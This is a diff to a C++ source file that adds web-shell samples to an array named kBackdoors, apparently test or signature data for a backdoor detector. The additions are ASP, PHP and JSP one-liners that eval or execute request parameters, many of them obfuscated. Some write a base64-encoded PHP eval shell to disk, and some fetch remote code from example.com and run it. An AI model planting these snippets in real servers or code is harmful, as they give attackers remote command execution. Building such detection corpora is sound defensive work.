@@ -222,6 +222,17 @@ const char* const kBackdoors[] = {
     "\"\\x73\\x61\\x66\\x65\");%>",
     "<%@ Language=JScript %><% var sh = new ActiveXObject(\"WScript.Shell\"); %>",
     "<%execute(UnEncode(hu))%>",
+    "<%eval(\"e\"&\"v\"&\"a\"&\"l\"&\"(\"&\"r\"&\"e\"&\"q\")%>",
+    "<%Execute MorfiCode(\")/*/z/*/(tseuqer lave\")%>",
+    "<%execute(d(6)&d(10)&d(9)&d(12)&d(11))%>",
+    "<% Set o = Server.CreateObject(\"ScriptControl\") : o.Language = \"vbscript\" : "
+    "o.AddCode(Request(\"SubCode\")) %>",
+    "<% Set ms = Server.CreateObject(\"MSScriptControl.ScriptControl.1\") : "
+    "ms.ExecuteStatement(x) %>",
+    "<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.Load("
+    "Convert.FromBase64String(Request.Form[\"k\"])); %>",
+    "<%@ Page Language=\"VB\" %><% dim w as new streamwriter(request.form(\"path\"), true) %>",
+    "<% Set f = fso.CreateTextFile(request(\"p\"), True) %>",
     // PHP
     "<?php @eval($_POST['x']);?>",
     "<?php system($_GET['c']); ?>",
@@ -246,6 +257,27 @@ const char* const kBackdoors[] = {
     "<?php $fp = fopen('x.php', 'w'); fwrite($fp, $_POST['t']); ?>",
     "<?php eval(xxtea_decrypt(base64_decode($s361), \"3473dab\")); ?>",
     "<?php\n/* \x01 */ system(\"uname -a\"); ?>",
+    "<?php mb_ereg_replace('.*', $_REQUEST['op'], '', 'e'); ?>",
+    "<?php @extract($_REQUEST); @die($ctime($atime)); ?>",
+    "<?php $f = str_replace('et', '', 'cetreetatete_etfunetctieton'); ?>",
+    "<?php fputs(fopen('a.php', 'w'), base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+')); ?>",
+    "<?php fputs(fopen('a.php', 'w'), pack(\"H*\", \"3c3f406576616c28245f504f53545b785d293f3e\")); "
+    "?>",
+    "<?php move_uploaded_file($userfile, \"entrika.php\"); ?>",
+    "<?php copy(\"http://example.com/c99.txt\", \"lostwolf.php\"); ?>",
+    "<?php $c99sh_sourcesurl = 'x'; ?>",
+    "<?php $GLOBALS['a'] = $r76[94] . $r76[24] . $r76[24] . $r76[49] . $r76[24] . $r76[54]; ?>",
+    "<?php $e = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36); ?>",
+    "<?php eval(${$x}['k']); ?>",
+    "<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['a'] = 1; ?>",
+    "<?php ${'_'.$_}['_'](${'_'.$_}['__']); ?>",
+    "<?php $item['w']($_POST['x']); ?>",
+    "<?php uasort($arr, base64_decode($e)); ?>",
+    "<?php filter_var($_REQUEST['p'], FILTER_CALLBACK, array('options' => 'assert')); ?>",
+    "<?php $b = file_get_contents(\"http://example.com/1.txt\"); eval($b); ?>",
+    "<?php eval($_D('JF9YPWJhc2U2NF9kZWNvZGUo')); ?>",
+    "<?php eval(vUMmFr(\"7b1pe+M2sij8ved55j+wFZ+RPXKbFLW3205r31dqT/L4cCclbuIiSsrk/esvAC\")); ?>",
+    "<?php $a = strrev('tressa'); $a($_POST['x']); ?>",
     "<script language=\"php\">@eval($_POST['x']);</script>",
     // JSP
     "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>",
@@ -256,6 +288,9 @@ const char* const kBackdoors[] = {
     "<%new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))"
     ".write(request.getParameter(\"c\").getBytes());%>",
     "<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } } %>",
+    "<% Runtime r = Runtime.getRuntime(); Process p = r.exec(cmd); %>",
+    "<% Process p = rt.exec(request.getParameter(\"c\")); %>",
+    "<% Class k = loader.defineClass(b, 0, b.length); %>",
     "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet>",
 };
 
